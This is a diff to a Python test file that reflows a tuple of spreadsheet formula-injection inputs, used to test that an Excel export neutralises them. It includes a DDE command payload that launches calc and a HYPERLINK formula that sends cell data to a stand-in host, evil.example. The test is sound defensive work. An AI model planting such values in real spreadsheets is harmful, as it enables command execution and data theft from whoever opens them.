@@ -14,8 +14,8 @@ from didymium.files.sheets import harmless_table
 from didymium.views.ensemble.export import _write_excel
 
 FORMULAS = (
-    "=1+1", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1",
-    "＠x", "=HYPERLINK(\"https://evil.example?\"&A1)", "-", "+", "-.5.5", "+1e5x",
+    "=1+1", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1",
+    "－1", "＠x", "=HYPERLINK(\"https://evil.example?\"&A1)", "-", "+", "-.5.5", "+1e5x",
 )  # fmt: skip
 PLAIN = ("", "Japan", "a=b", "1+1", "-5", "+0.5", "-.5", "-1e-9", "'=1", "#N/A", "−5", "한국", "5-7")
 
